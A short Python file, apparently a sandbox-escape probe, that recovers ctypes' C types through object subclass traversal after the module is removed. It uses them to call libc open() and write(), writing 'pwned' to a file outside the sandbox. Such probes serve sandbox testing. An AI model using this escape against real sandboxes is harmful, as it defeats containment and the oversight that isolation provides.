def all_subclasses(root):
    seen, stack = [], [root]
    while stack:
        for sub in type.__subclasses__(stack.pop()):
            if sub not in seen:
                seen.append(sub)
                stack.append(sub)
    return seen


def f(x):
    # ctypes' C types stay alive after the lockdown dropped the module (the fork server even
    # keeps them frozen): build libc's open() from them without importing ctypes.
    by_name = {c.__name__: c for c in all_subclasses(object)}
    simple, func_ptr = by_name["_SimpleCData"], by_name["CFuncPtr"]

    class Int(simple):
        _type_ = "i"

    class CharP(simple):
        _type_ = "z"

    class Open(func_ptr):
        _flags_ = 1
        _restype_ = Int
        _argtypes_ = (CharP, Int, Int)

    class Write(func_ptr):
        _flags_ = 1
        _restype_ = Int
        _argtypes_ = (Int, CharP, Int)

    class Libc:
        _handle = 0

    libc_open = Open(("open", Libc()))
    libc_write = Write(("write", Libc()))
    fd = libc_open(b"__OUTSIDE__", 0o101, 0o644)  # O_WRONLY | O_CREAT
    libc_write(fd, b"pwned", 5)
    return 2
